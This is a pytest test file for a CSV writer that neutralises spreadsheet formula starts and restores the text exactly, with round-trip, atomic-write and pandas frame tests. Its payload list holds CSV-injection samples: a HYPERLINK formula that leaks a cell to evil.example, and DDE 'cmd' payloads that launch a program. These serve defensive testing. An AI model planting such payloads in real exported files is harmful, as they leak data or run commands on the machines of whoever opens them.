"""The shared CSV writer: formula starts neutralised, the original text restored exactly."""

from __future__ import annotations

import csv
import math
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nodesynth_common.csv_cells import csv_cell, neutralise, restore, restore_row, write_csv, write_frame_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "''two quotes",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_start_is_prefixed_and_restored(payload: str) -> None:
    cell = neutralise(payload)
    assert cell == "'" + payload
    assert restore(cell) == payload


@pytest.mark.parametrize("text", ["plain", "", "a=b", "  =not first", "1+1", "é=", "0.5"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


def test_numbers_stay_numbers_and_missing_values_are_empty() -> None:
    assert csv_cell(-0.5) == "-0.5"
    assert csv_cell(-3) == "-3"
    assert csv_cell(True) == "True"
    assert csv_cell(None) == ""
    assert csv_cell(math.nan) == ""
    assert csv_cell(pd.NA) == ""
    assert csv_cell("-3") == "'-3"  # text that looks like a number is still text


@given(st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=8))
@settings(max_examples=60, deadline=None, database=None)
def test_every_text_survives_a_round_trip(tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]]) -> None:
    path = tmp_path_factory.mktemp("csv") / "sheet.csv"
    assert write_csv(path, ["a", "b", "c"], rows, bom=True) == len(rows)
    with path.open(newline="", encoding="utf-8-sig") as handle:
        read = [restore_row(row) for row in csv.DictReader(handle)]
    assert [[row["a"], row["b"], row["c"]] for row in read] == rows
    with path.open(newline="", encoding="utf-8-sig") as handle:
        cells = [cell for line in csv.reader(handle) for cell in line]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_write_csv_leaves_no_temporary_file_and_keeps_the_old_one_on_error(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_csv(path, ["x"], [["old"]])

    def rows():
        yield ["new"]
        raise RuntimeError("interrupted")

    with pytest.raises(RuntimeError):
        write_csv(path, ["x"], rows())
    assert path.read_bytes() == b"x\r\nold\r\n"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


def test_a_frame_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=name": ["=cmd()", "ok", None], "gain": [-0.25, 0.5, math.nan], "n": [-1, 2, 3]})
    path = tmp_path / "t.csv"
    assert write_frame_csv(path, frame) == 3
    assert path.read_bytes().decode().split("\r\n") == ["'=name,gain,n", "'=cmd(),-0.25,-1", "ok,0.5,2", ",,3", ""]
    back = pd.read_csv(path)
    assert back["gain"].iloc[0] == -0.25 and back["n"].tolist() == [-1, 2, 3]
